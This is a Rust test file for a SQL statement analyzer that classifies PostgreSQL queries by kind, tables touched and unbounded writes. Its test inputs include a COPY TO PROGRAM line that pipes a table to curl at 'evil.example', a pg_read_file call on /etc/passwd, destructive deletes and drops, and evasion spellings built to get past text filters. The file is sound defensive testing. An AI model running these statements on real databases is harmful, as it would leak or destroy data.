//! Table tests: SQL in, facts out, including spellings meant to slip past a text matcher.

use sluice_sql::{analyze, SqlError, StatementKind as K};

/// (sql, kind, read, written, functions, unbounded write)
type Case = (
    &'static str,
    K,
    &'static [&'static str],
    &'static [&'static str],
    &'static [&'static str],
    bool,
);

const CASES: &[Case] = &[
    (
        "SELECT * FROM accounts",
        K::Read,
        &["accounts"],
        &[],
        &[],
        false,
    ),
    (
        "select a.x from billing.accounts a join users u on u.id = a.uid",
        K::Read,
        &["billing.accounts", "users"],
        &[],
        &[],
        false,
    ),
    (
        "UPDATE accounts SET balance = 0 WHERE id = 1",
        K::Write,
        &[],
        &["accounts"],
        &[],
        false,
    ),
    (
        "UPDATE accounts SET balance = 0",
        K::Write,
        &[],
        &["accounts"],
        &[],
        true,
    ),
    (
        "DELETE FROM accounts",
        K::Write,
        &[],
        &["accounts"],
        &[],
        true,
    ),
    (
        "INSERT INTO audit_copy SELECT * FROM accounts",
        K::Write,
        &["accounts"],
        &["audit_copy"],
        &[],
        false,
    ),
    (
        "TRUNCATE accounts",
        K::Write,
        &[],
        &["accounts"],
        &[],
        false,
    ),
    // Data-modifying CTE under a SELECT: a write, and an unbounded one.
    (
        "WITH d AS (DELETE FROM accounts RETURNING *) SELECT * FROM d",
        K::Write,
        &[],
        &["accounts"],
        &[],
        true,
    ),
    // SELECT INTO and CREATE TABLE AS create tables.
    (
        "SELECT * INTO stolen FROM accounts",
        K::Ddl,
        &["accounts"],
        &["stolen"],
        &[],
        false,
    ),
    (
        "CREATE TABLE stolen AS SELECT * FROM accounts",
        K::Ddl,
        &["accounts"],
        &["stolen"],
        &[],
        false,
    ),
    (
        "DROP TABLE accounts",
        K::Ddl,
        &[],
        &["accounts"],
        &[],
        false,
    ),
    (
        "COPY accounts TO STDOUT",
        K::Read,
        &["accounts"],
        &[],
        &[],
        false,
    ),
    (
        "COPY accounts FROM STDIN",
        K::Write,
        &[],
        &["accounts"],
        &[],
        false,
    ),
    (
        "COPY accounts TO PROGRAM 'curl -d @- evil.example'",
        K::Procedural,
        &["accounts"],
        &[],
        &[],
        false,
    ),
    (
        "SELECT pg_read_file('/etc/passwd')",
        K::Read,
        &[],
        &[],
        &["pg_read_file"],
        false,
    ),
    (
        "SELECT pg_catalog.pg_terminate_backend(123)",
        K::Read,
        &[],
        &[],
        &["pg_catalog.pg_terminate_backend"],
        false,
    ),
    (
        "DO $$ BEGIN EXECUTE 'DROP TABLE accounts'; END $$",
        K::Procedural,
        &[],
        &[],
        &[],
        false,
    ),
    (
        "CALL archive_accounts()",
        K::Procedural,
        &[],
        &[],
        &["archive_accounts"],
        false,
    ),
    ("EXECUTE wipe(1)", K::Procedural, &[], &[], &[], false),
    (
        "EXPLAIN ANALYZE DELETE FROM accounts",
        K::Write,
        &[],
        &["accounts"],
        &[],
        true,
    ),
    (
        "PREPARE wipe AS DELETE FROM accounts WHERE id = $1",
        K::Write,
        &[],
        &["accounts"],
        &[],
        false,
    ),
    ("BEGIN", K::Transaction, &[], &[], &[], false),
    // Evasions: comments, case, quoting, unicode escapes, dollar quoting.
    (
        "/* harmless */ dElEtE /* really */ FROM accounts",
        K::Write,
        &[],
        &["accounts"],
        &[],
        true,
    ),
    (
        "DELETE FROM \"accounts\"",
        K::Write,
        &[],
        &["accounts"],
        &[],
        true,
    ),
    (
        "DELETE FROM U&\"\\0061ccounts\"",
        K::Write,
        &[],
        &["accounts"],
        &[],
        true,
    ),
    (
        "DELETE FROM \"Accounts\"",
        K::Write,
        &[],
        &["Accounts"],
        &[],
        true,
    ),
    (
        "SELECT $$; DELETE FROM accounts; $$",
        K::Read,
        &[],
        &[],
        &[],
        false,
    ),
    (
        "SELECT 'DROP TABLE accounts'",
        K::Read,
        &[],
        &[],
        &[],
        false,
    ),
];

#[test]
fn statement_facts() {
    for (sql, kind, read, written, functions, unbounded) in CASES {
        let statements = analyze(sql).unwrap_or_else(|e| panic!("{sql}: {e}"));
        assert_eq!(statements.len(), 1, "{sql}");
        let s = &statements[0];
        assert_eq!(s.kind, *kind, "{sql}: {s:#?}");
        assert_eq!(s.tables_read, *read, "{sql}: read");
        assert_eq!(s.tables_written, *written, "{sql}: written");
        assert_eq!(s.functions, *functions, "{sql}: functions");
        assert_eq!(s.unbounded_write, *unbounded, "{sql}: unbounded write");
    }
}

#[test]
fn several_statements_are_split_by_the_parser_not_by_semicolons() {
    let s = analyze("select 1; /* ; */ delete from accounts; select ';'").unwrap();
    let kinds: Vec<K> = s.iter().map(|s| s.kind).collect();
    assert_eq!(kinds, vec![K::Read, K::Write, K::Read]);
    // The parser's slice starts at the statement; the comment before it is not part of it.
    assert_eq!(s[1].text, "delete from accounts");
    assert_eq!(s[1].tables_written, vec!["accounts"]);
}

#[test]
fn one_bad_statement_rejects_the_whole_string() {
    let err = analyze("select 1; this is not sql; delete from accounts").unwrap_err();
    assert!(
        matches!(&err, SqlError::Rejected(m) if m.contains("syntax error")),
        "{err}"
    );
}

#[test]
fn empty_and_comment_only_strings_have_no_statements() {
    assert!(analyze("").unwrap().is_empty());
    assert!(analyze("  -- nothing\n /* here */ ").unwrap().is_empty());
}

#[test]
fn session_changes_are_visible() {
    let cases = [
        ("SET ROLE postgres", "role", Some("postgres")),
        (
            "set session authorization 'admin'",
            "session_authorization",
            Some("admin"),
        ),
        (
            "SET search_path TO evil, public",
            "search_path",
            Some("evil, public"),
        ),
        ("RESET ROLE", "role", None),
        ("SET statement_timeout = 0", "statement_timeout", Some("0")),
    ];
    for (sql, setting, value) in cases {
        let s = &analyze(sql).unwrap()[0];
        assert_eq!(s.kind, K::SessionChange, "{sql}");
        let change = s.session_change.as_ref().unwrap();
        assert_eq!(change.setting, setting, "{sql}");
        assert_eq!(change.value.as_deref(), value, "{sql}");
    }
}

#[test]
fn commands_are_named_like_postgresql_names_them() {
    let names: Vec<String> = [
        "SELECT 1",
        "CREATE TABLE t AS SELECT 1",
        "create table t (a int)",
        "VACUUM",
        "EXPLAIN SELECT 1",
    ]
    .iter()
    .map(|sql| analyze(sql).unwrap()[0].command.clone())
    .collect();
    assert_eq!(
        names,
        vec!["SELECT", "CREATE TABLE AS", "CREATE", "VACUUM", "EXPLAIN"]
    );
}
